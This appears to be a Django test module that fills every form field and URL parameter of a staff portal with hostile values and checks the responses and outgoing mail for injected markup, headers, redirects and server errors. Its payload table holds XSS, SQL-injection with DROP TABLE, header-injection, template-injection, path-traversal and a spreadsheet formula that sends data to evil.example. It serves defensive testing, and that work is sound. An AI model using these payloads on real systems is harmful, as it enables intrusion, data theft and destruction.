"""Hostile values, in every field of every form and every parameter, and what they come back as."""

from collections.abc import Iterable, Iterator, Sequence
from itertools import cycle, product
from urllib.parse import urlencode

from django.core import mail
from django.http import HttpResponse

from portal.models import Employee, Notice
from portal.services.outbox import drain_outbox
from tests.replaying import Poster
from tests.visitor import TOKEN
from tests.walking import Form, forms_of

MARKUP = "<script>alert(7)</script><img src=x onerror=alert(7)>"
HEADER = "x\r\nX-Injected: yes\r\nBcc: everyone@council.example\r\n\r\nbody"
VALUES = {
    "markup": f"'\"></textarea></title>{MARKUP}",
    "template": "{{ 7|add:7 }}{% debug %}${7*7}#{7*7}%s%n{0.__class__}",
    "SQL": "1' OR '1'='1'; DROP TABLE portal_employee; --",
    "header": HEADER,
    "formula": '=HYPERLINK("https://evil.example?"&A1,"here")',
    "NUL": "a\0b",
    "lone surrogate": "a\ud800b",
    "right to left": "\u202egnp.exe\u2066\u200f",
    "number": "9" * 400,
    "no number": "1e999",
    "minus": "-1",
    "path": "../../../../etc/passwd",
    "address": "javascript:alert(7)//@evil.example",
    "empty": "",
    "long": "a " * 50_000,
}
# What pages read of an address, beside what their forms ask.
PARAMETERS = ("after", "before", "next", "from", "to", "q", "show", "until", "post", "welcome")


AS_TYPED = "application/x-www-form-urlencoded"


class Attacker:
    """Someone who types hostile values, and looks at what comes back."""

    def __init__(self, person: Employee):
        self.poster = Poster(person)
        self.faults: list[str] = []
        self.tried = 0

    def fill_in(self, form: Form, name: str, kind: str) -> None:
        """One field of a form with a hostile value, the rest of it as it should be."""
        typed = encoded({**form.filled_in(), name: VALUES[kind], "csrfmiddlewaretoken": TOKEN})
        client = self.poster.client
        with self.poster.trying():
            if form.method == "post":
                answer = client.post(form.action, typed, content_type=AS_TYPED, follow=True)
            else:
                answer = client.get(f"{form.action.partition('?')[0]}?{typed}", follow=True)
            self.look_at(answer, f"{form.action}: {name} is {kind}")
            if answer.status_code == 200 and Notice.objects.exclude(mail_due_at=None).exists():
                self.look_at_mail(f"{form.action}: {name} is {kind}")

    def ask(self, page: str, name: str, kind: str) -> None:
        """A page with a hostile value in its address."""
        with self.poster.trying():
            answer = self.poster.client.get(f"{page}?{encoded({name: VALUES[kind]})}", follow=True)
            self.look_at(answer, f"{page}?{name}= is {kind}")

    def look_at(self, answer: HttpResponse, told: str) -> None:
        self.tried += 1
        statuses = [answer.status_code, *(status for _, status in answer.redirect_chain)]
        if max(statuses) >= 500:
            self.faults.append(f"{statuses} {told}")
        if any(not url.startswith("/") for url, _ in answer.redirect_chain):
            self.faults.append(f"leads elsewhere: {told}")
        if "X-Injected" in answer or "Bcc" in answer:
            self.faults.append(f"a header: {told}")
        if answer.get("Content-Type", "").startswith("text/html"):
            text = answer.content.decode()
            if MARKUP in text or "alert(7)>" in text:
                self.faults.append(f"markup: {told}")

    def look_at_mail(self, told: str) -> None:
        mail.outbox = []
        drain_outbox()
        for message in mail.outbox:
            headers = message.message()
            if "X-Injected" in headers or "Bcc" in headers:
                self.faults.append(f"a header of a mail: {told}")


def encoded(fields: dict[str, str | list[str]]) -> str:
    """Fields as a browser sends them, and also what no browser would: half a character."""
    pairs = [
        (name, value)
        for name, values in fields.items()
        for value in (values if isinstance(values, list) else [values])
    ]
    return urlencode(pairs, errors="surrogatepass")


def attack(people: Iterable[Employee], kinds: Sequence[str]) -> tuple[dict[str, int], list[str]]:
    """Fill in each kind of form that people find, and ask each page, with every value of some
    kinds in every field; returns the figures and the faults.
    """
    figures, faults = {"forms": 0, "fields": 0, "tries": 0}, []
    for attacker, forms in forms_to_attack(people):
        for form in forms:
            fields = [*form.fields, *form.offered]
            figures["forms"] += 1
            figures["fields"] += len(fields)
            for name, kind in product(fields, kinds):
                attacker.fill_in(form, name, kind)
        for page, name, kind in product(pages(forms), PARAMETERS, kinds):
            attacker.ask(page, name, kind)
        figures["tries"] += attacker.tried
        faults += attacker.faults
    return figures, faults


def attack_in_turn(people: Iterable[Employee], kinds: Sequence[str]) -> list[str]:
    """The same with one value in each field, in turn, and one parameter of each page."""
    faults, turn = [], cycle(kinds)
    for attacker, forms in forms_to_attack(people):
        for form in forms:
            for name in (*form.fields, *form.offered):
                attacker.fill_in(form, name, next(turn))
        for page, name in zip(pages(forms), cycle(PARAMETERS), strict=False):
            attacker.ask(page, name, next(turn))
        faults += attacker.faults
    return faults


def forms_to_attack(people: Iterable[Employee]) -> Iterator[tuple[Attacker, list[Form]]]:
    """Each person with the forms that they find and nobody before them did, one of a kind."""
    Notice.objects.update(mail_due_at=None)
    seen: set[tuple] = set()
    for person in people:
        attacker = Attacker(person)
        found = {form.kind: form for form in forms_of(person, attacker.poster.client)}
        yield attacker, [form for kind, form in found.items() if kind not in seen]
        seen |= found.keys()


def pages(forms: Iterable[Form]) -> list[str]:
    return sorted({form.page.partition("?")[0] for form in forms})
